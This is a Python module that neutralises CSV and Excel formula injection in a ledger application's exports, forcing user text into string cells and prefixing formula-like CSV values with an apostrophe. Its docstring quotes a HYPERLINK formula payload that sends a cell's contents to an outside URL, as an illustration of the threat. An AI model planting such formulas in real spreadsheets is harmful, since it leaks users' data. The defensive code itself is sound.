"""Spreadsheets Gongzhi writes: what a person typed goes out as text, never as a formula.

A ledger opened in Excel or WPS runs any cell it takes for a formula: `=HYPERLINK("http://…?c="&C2)`
typed as an incident's place would send the next cell's contents away (OWASP: CSV injection). Every
.xlsx and .csv Gongzhi writes passes its values through here:

- .xlsx: a str is an explicit string cell (openpyxl on its own makes any str that begins with "=" a
  formula, and "#N/A" an error), with the control characters a workbook cannot hold removed;
- .csv: a str that begins with = + - @ tab or CR gets a leading ' (OWASP's neutralisation), which the
  import takes off again (`csv_text_read`), so that an exported ledger imports back as it was.

Only str values are text. Numbers (a Decimal amount, negative or not), dates and times are ours,
written as numbers and dates that a spreadsheet computes with.
"""

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NEUTRAL = "'"
EXCEL_MAX_CHARS = 32767  # what one cell holds


def text_cell(sheet, value: str) -> Cell:
    """A str as a string cell of `sheet` (for `sheet.append`, write-only or not)."""
    cell = Cell(sheet, row=1, column=1)
    cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)[:EXCEL_MAX_CHARS]
    cell.data_type = "s"
    return cell


def sheet_row(sheet, values) -> list:
    """A row for `sheet.append`: every str a string cell, every other value as it is."""
    return [text_cell(sheet, value) if isinstance(value, str) else value for value in values]


def sheet_put(sheet, row: int, column: int, value):
    """`sheet.cell(row, column, value)` of a workbook open in full, a str kept a string."""
    cell = sheet.cell(row=row, column=column)
    if isinstance(value, str):
        cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)[:EXCEL_MAX_CHARS]
        cell.data_type = "s"
    else:
        cell.value = value
    return cell


def csv_text(value):
    """A value as a .csv cell: a str a spreadsheet would take for a formula, neutralised."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return NEUTRAL + value
    return value


def csv_row(values) -> list:
    return [csv_text(value) for value in values]


def csv_text_read(value: str) -> str:
    """A .csv cell as it was before `csv_text` neutralised it (a ledger exported, then imported)."""
    if value.startswith(NEUTRAL) and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value
